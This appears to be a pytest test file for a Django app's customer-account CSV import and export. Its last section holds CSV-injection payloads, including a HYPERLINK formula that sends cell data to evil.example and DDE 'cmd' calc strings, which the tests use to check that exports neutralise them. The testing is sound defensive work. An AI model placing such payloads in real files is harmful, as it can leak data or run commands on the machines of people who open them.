"""CSV import and export of customer accounts: the good file, the file with bad rows, re-import, round trip."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command

from accounts.csv_io import export_accounts, import_accounts
from accounts.models import Account, AccountEvent, Contact, EmailDomain
from core.roles import ACCOUNT_MANAGER
from tests.factories import AccountFactory, ComponentFactory, UserFactory

pytestmark = pytest.mark.django_db

GOOD = "\n".join([
    "name,tier,arr,currency,renewal_date,owner,email_domains,social_handles,components,contacts,notes",
    'Acme Corp,strategic,"1,200,000",usd,2027-01-31,anna,acme.com acme.io,@AcmeCorp,API; Dashboard,'
    '"Ada Lovelace <ada@acme.com>, Bob <BOB@acme.com>",Launch in March',
    "Globex,Self-serve,50000,EUR,,,globex.com,,,,",
    "",
])


@pytest.fixture
def anna():
    return UserFactory(username="anna", role=ACCOUNT_MANAGER)


@pytest.fixture
def components():
    return ComponentFactory(name="API"), ComponentFactory(name="Dashboard")


def test_a_good_file_creates_every_account_with_its_domains_handles_components_and_contacts(anna, components):
    report = import_accounts(GOOD)

    assert (report.created, report.updated, report.errors, report.committed) == (2, 0, [], True)
    acme = Account.objects.get(name="Acme Corp")
    assert (acme.tier, acme.arr, acme.currency, str(acme.renewal_date), acme.owner) == (
        "strategic", 1_200_000, "USD", "2027-01-31", anna)
    assert sorted(acme.email_domains.values_list("domain", flat=True)) == ["acme.com", "acme.io"]
    assert list(acme.social_handles.values_list("handle", flat=True)) == ["acmecorp"]
    assert sorted(acme.components.values_list("name", flat=True)) == ["API", "Dashboard"]
    assert list(acme.contacts.values_list("name", "email", "is_primary")) == [
        ("Ada Lovelace", "ada@acme.com", True), ("Bob", "bob@acme.com", False)]
    assert Account.objects.get(name="Globex").tier == "self_serve"


def test_a_file_with_bad_rows_imports_nothing_and_reports_each_line_with_its_reason(anna, components):
    AccountFactory(name="Initech").email_domains.create(domain="initech.com")
    text = GOOD + (
        "Bad tier,gold,10,,,,,,,,\n"
        "Negative,growth,-5,,,,,,,,\n"
        "Stolen domain,growth,10,,,,initech.com,,,,\n"
        "Twice,growth,10,,,,acme.io,,,,\n"
        "Bad email,growth,10,,,,,,,Zed <not-an-email>,\n"
        "Nobody owns,growth,10,,,ghost,,,,,\n"
        "Globex,growth,10,,,,,,,,\n"
    )

    report = import_accounts(text)

    assert not report.committed and Account.objects.count() == 1  # only Initech, made above
    assert [line for line, _ in report.errors] == [4, 5, 6, 7, 8, 9, 10]
    reasons = dict(report.errors)
    assert "unknown tier 'gold'" in reasons[4]
    assert "arr must be a number of 0 or more, got '-5'" in reasons[5]
    assert "the domain initech.com belongs to Initech" in reasons[6]
    assert "the domain acme.io is already on line 2" in reasons[7]
    assert "bad contact email" in reasons[8]
    assert "owner 'ghost' is not an active account manager" in reasons[9]
    assert "the account 'Globex' is already on line 3" in reasons[10]


def test_keeping_the_valid_rows_imports_the_good_ones_and_still_reports_the_bad(anna, components):
    report = import_accounts(GOOD + "Bad tier,gold,10,,,,,,,,\n", partial=True)

    assert report.committed and report.created == 2 and report.errors[0][0] == 4
    assert set(Account.objects.values_list("name", flat=True)) == {"Acme Corp", "Globex"}


def test_reimporting_the_same_file_updates_instead_of_duplicating(anna, components):
    import_accounts(GOOD)
    changed = GOOD.replace('"1,200,000"', "1500000").replace("Bob <BOB@acme.com>", "Bobby <bob@acme.com>")

    report = import_accounts(changed)

    assert (report.created, report.updated) == (0, 2)
    assert Account.objects.count() == 2 and EmailDomain.objects.count() == 3 and Contact.objects.count() == 2
    acme = Account.objects.get(name="Acme Corp")
    assert acme.arr == 1_500_000
    assert acme.contacts.get(email="bob@acme.com").name == "Bobby"
    assert AccountEvent.objects.filter(account=acme, description__startswith="updated by a CSV import").count() == 1


def test_empty_cells_leave_stored_values_alone(anna, components):
    import_accounts(GOOD)

    import_accounts("name,tier,email_domains,notes\nAcme Corp,,,\n")

    acme = Account.objects.get(name="Acme Corp")
    assert acme.tier == "strategic" and acme.notes == "Launch in March"
    assert acme.email_domains.count() == 2


def test_contacts_already_stored_but_missing_from_the_file_are_kept(anna, components):
    import_accounts(GOOD)
    Contact.objects.create(account=Account.objects.get(name="Acme Corp"), name="Cy", email="cy@acme.com")

    import_accounts(GOOD)

    assert Contact.objects.filter(email="cy@acme.com").exists()


def test_export_writes_the_import_format_and_round_trips(anna, components):
    import_accounts(GOOD)
    before = sorted(Account.objects.values_list("name", "tier", "arr", "currency", "renewal_date", "owner", "notes"))
    stream = io.StringIO()

    assert export_accounts(stream) == 2
    Account.objects.all().delete()
    report = import_accounts(stream.getvalue())

    assert report.created == 2 and not report.errors
    assert sorted(Account.objects.values_list("name", "tier", "arr", "currency", "renewal_date", "owner",
                                              "notes")) == before
    assert list(Account.objects.get(name="Acme Corp").contacts.values_list("email", "is_primary")) == [
        ("ada@acme.com", True), ("bob@acme.com", False)]


def test_a_contact_name_with_a_comma_survives_the_round_trip(db):
    account = AccountFactory(name="Comma Inc")
    Contact.objects.create(account=account, name="Lovelace, Ada", email="ada@comma.example", is_primary=True)
    stream = io.StringIO()
    export_accounts(stream)
    Account.objects.all().delete()

    import_accounts(stream.getvalue())

    assert list(Contact.objects.values_list("name", "email")) == [("Lovelace, Ada", "ada@comma.example")]


@pytest.mark.parametrize("text, message", [
    ("tier,arr\ngrowth,1\n", "must name the columns, including name"),
    ("name,colour\nAcme,red\n", "Unknown column colour"),
])
def test_a_file_without_the_right_header_is_refused_as_a_whole(text, message):
    with pytest.raises(ValidationError, match=message):
        import_accounts(text)


def test_a_row_with_more_values_than_columns_is_reported(db):
    report = import_accounts("name,tier\nAcme,growth,extra\n")

    assert report.errors == [(2, "more values than the 11 columns (quote values with commas)")]


def test_reimporting_a_name_in_another_case_updates_the_account(db):
    import_accounts("name,tier\nAcme,growth\n")

    report = import_accounts("name,tier\nACME,strategic\n")

    assert (report.created, report.updated) == (0, 1)
    assert list(Account.objects.values_list("name", "tier")) == [("ACME", "strategic")]


def test_a_contact_name_too_long_for_the_column_is_reported_not_a_crash(db):
    report = import_accounts(f'name,contacts\nAcme,"{"A" * 201} <a@acme.example>"\n')

    assert not report.committed
    assert report.errors == [(2, "the contact name for a@acme.example is longer than 200 characters")]


def test_the_command_shows_progress_reports_bad_lines_and_exits_with_status_1(tmp_path, anna, components):
    bad = tmp_path / "accounts.csv"
    bad.write_text(GOOD + "Bad tier,gold,10,,,,,,,,\n")
    out, err = io.StringIO(), io.StringIO()

    with pytest.raises(CommandError, match="1 bad line"):
        call_command("import_accounts", str(bad), stdout=out, stderr=err)

    assert "Checking accounts.csv: 3/3" in err.getvalue()
    assert "Line 4: unknown tier 'gold'" in err.getvalue()
    assert "Nothing was imported" in out.getvalue() and Account.objects.count() == 0


def test_the_command_keeps_valid_rows_when_asked(tmp_path, anna, components):
    bad = tmp_path / "accounts.csv"
    bad.write_text(GOOD + "Bad tier,gold,10,,,,,,,,\n")

    with pytest.raises(CommandError):
        call_command("import_accounts", str(bad), "--keep-valid", stdout=io.StringIO(), stderr=io.StringIO())

    assert Account.objects.count() == 2


def test_the_export_command_writes_a_file(tmp_path, anna, components):
    import_accounts(GOOD)
    target = tmp_path / "out.csv"

    call_command("export_accounts", "--output", str(target), stderr=io.StringIO())

    assert target.read_text().splitlines()[0].startswith("name,tier,arr,currency")
    assert len(target.read_text().splitlines()) == 3


# --- Cells a spreadsheet would run as a formula (CSV injection) ---------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_export_writes_a_cell_that_would_run_as_a_formula_after_an_apostrophe(formula):
    account = AccountFactory(name=formula, notes=formula)
    Contact.objects.create(account=account, name=formula.strip(), email="ada@example.com", is_primary=True)
    stream = io.StringIO()
    export_accounts(stream)

    [row] = csv.DictReader(io.StringIO(stream.getvalue()))
    assert row["name"] == row["notes"] == f"'{formula}"
    assert [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_downloaded_export_writes_formulas_as_text_too(client, support):
    AccountFactory(name='=HYPERLINK("https://evil.example","Details")', owner=UserFactory(
        username="-support-desk", role=ACCOUNT_MANAGER))
    client.force_login(support)
    body = b"".join(client.get("/accounts/export.csv").streaming_content).decode()

    [row] = csv.DictReader(io.StringIO(body))
    assert (row["name"], row["owner"]) == ("'=HYPERLINK(\"https://evil.example\",\"Details\")", "'-support-desk")


@pytest.mark.parametrize("value", ["-5%", "=x", "@home", "'=x", "''+1", "'tis", "plain"])
def test_a_value_comes_back_from_export_and_import_unchanged_round_after_round(value):
    owner = UserFactory(username="@desk", role=ACCOUNT_MANAGER)
    AccountFactory(name=value, notes=value, owner=owner)
    for _ in range(3):
        stream = io.StringIO()
        export_accounts(stream)
        report = import_accounts(stream.getvalue())
        assert (report.created, report.updated, report.errors) == (0, 1, [])

    assert list(Account.objects.values_list("name", "notes", "owner")) == [(value, value, owner.pk)]


def test_an_apostrophe_written_before_a_formula_by_hand_is_taken_off_on_import(db):
    import_accounts("name,notes\n'-5% Discount Co,'=not a formula\n")

    assert list(Account.objects.values_list("name", "notes")) == [("-5% Discount Co", "=not a formula")]
